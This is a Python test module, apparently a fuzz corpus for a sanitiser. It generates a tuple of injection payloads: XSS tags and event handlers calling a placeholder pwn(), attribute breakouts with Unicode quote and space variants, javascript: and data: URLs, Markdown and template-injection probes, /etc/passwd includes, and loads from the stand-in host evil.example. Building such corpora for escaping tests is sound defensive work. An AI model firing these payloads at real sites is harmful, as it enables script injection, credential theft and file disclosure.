"""Words that would like to be more than words: HTML, attributes, addresses, Markdown, Jinja, snippets, CSS,
    YAML, XML.

``pwn`` is what a script would call, ``evil.example`` whom a page would ask.
"""

from __future__ import annotations

_CALL = "pwn()"
_TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>",
    "<img src=//evil.example/i.png>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src=javascript:{}></iframe>",
    "<iframe src=//evil.example></iframe>", "<object data=//evil.example></object>", "<embed src=//evil.example>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>", "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<link rel=preload as=image href=//evil.example/p>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<form action=//evil.example><button>x</button></form>",
    "<a href=javascript:{}>x</a>",
    "<p style='background:url(//evil.example/b)'>", "<math><mi xlink:href=javascript:{}>x", "<template><script>{}",
    "<!-- --><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "<?xml-stylesheet href='//evil.example'?>",
    "</p></article><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</script><script>{}</script>", "</style><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover={} x="', "' onmouseover={} x='", '" autofocus onfocus={} "', '"><img src=x onerror={}>',
    "'><svg onload={}>", "` onload={} `", '" style="background:url(//evil.example)', "x onmouseover={} y",
    '" srcdoc="{}',
    '"><script>{}</script><p title="', "\\\"><img src=x onerror={}>", "&quot;><img src=x onerror={}>",
    "&#34; onmouseover={} &#34;", "%22%3E%3Cscript%3E{}%3C/script%3E",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", "java&#115;cript:{}", "java%0Ascript:{}", "data:text/html,<script>{}</script>",
    "vbscript:{}", "//evil.example/x", "\\\\evil.example\\x", "https://evil.example/\"onmouseover={}//",
    "https://evil.example/'><script>{}</script>", "javascript://evil.example/%0A{}", "view-source:javascript:{}",
    "mailto:a@b.c\"onclick={}", "feed:javascript:{}", "file:///etc/passwd",
)  # fmt: skip
_MARKDOWN = (
    "[a](<x onmouseover={} y>)", "[a](javascript:{})", "![a](//evil.example/i.png)", "![a](x){{: onerror={} }}",
    "[a]: javascript:{}", "[a][a] {{: onclick={} }}", "<javascript:{}>", "**a**{{: style='x' onclick={} }}",
    "{{: #title onclick={} }}", "# h {{: onclick={} }}", "```html <script>{}</script> ```", "`<script>{}</script>`",
    "| <img src=x onerror={}> |", "!!! note \"<script>{}</script>\"", "[^1]: <script>{}</script>",
    "*[HTML]: <script>{}</script>", "--8<-- \"/etc/passwd\"", "-8<- \"https://evil.example/x\"",
    ":smile{{onload={}}}:",
    "$$\\href{{javascript:{}}}{{x}}$$", "<div markdown onclick={}>**x**</div>", "==a=={{.x onclick={}}}",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ config }}}}", "{{{{ 7*7 }}}}<script>{}</script>", "{{% raw %}}<script>{}</script>{{% endraw %}}",
    "{{{{ ''.__class__.__mro__ }}}}", "{{% include '/etc/passwd' %}}", "{{# <script>{}</script> #}}",
    "${{7*7}}", "#{{7*7}}",
    "<%= {} %>", "<% {} %>", "__proto__", "constructor.constructor('{}')()",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<!-- shanben:works --><script>{}</script>", "]]><script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;",
)  # fmt: skip

_ENDS = ('"', "'", "`", "&quot;", "”", "＂")
_SPACES = ("\u2003", "/", "\u00a0", "\u3000", "\u2009", "\ufeff", "&#10;")
_HANDLERS = (
    "onclick",
    "onpointerenter",
    "onanimationstart",
    "onbeforetoggle",
    "onscrollend",
    "onpageshow",
    "formaction",
)
_APART = tuple(  # an attribute that is ended in every way, by every space, with each handler in turn
    f"{end}{space}{_HANDLERS[(row + column) % len(_HANDLERS)]}={{}}{space}x={end}"
    for row, end in enumerate(_ENDS)
    for column, space in enumerate(_SPACES)
)
_HALVES = tuple(  # signs that another reader may take for those of markup, and markup that is not ended
    f"{left}{name}{right}{{}}{left}/{name}{right}"
    for left, right in (("＜", "＞"), ("‹", "›"), ("&lt", "&gt"), ("&#60", "&#62"), ("\\x3c", "\\x3e"), ("%3c", "%3e"))
    for name in ("script", "svg onload=", "iframe srcdoc=", "style")
)
_UNENDED = (
    "<script", "<svg", "{{:", "<!--", "<![CDATA[", "</", "<a href='", "<img src=\"x", "<textarea>", "<title>",
    "<plaintext>", "--!>",
    "<xmp>", "<noembed>", "<select><option>", "<table><td>", "&", "&#", "&#x", "\\", "]]", "{{{{", "{{%", "`", "```",
    "~~~",
    "<x id=sb-citation name=shanben>", "<form id=shanben><input name=search>", "<a id=shanben><a id=shanben name=fold>",
)  # fmt: skip

INJECTIONS: tuple[str, ...] = tuple(
    form.format(_CALL)
    for forms in (_TAGS, _ATTRIBUTES, _ADDRESSES, _MARKDOWN, _TEMPLATES, _APART, _HALVES, _UNENDED)
    for form in forms
)
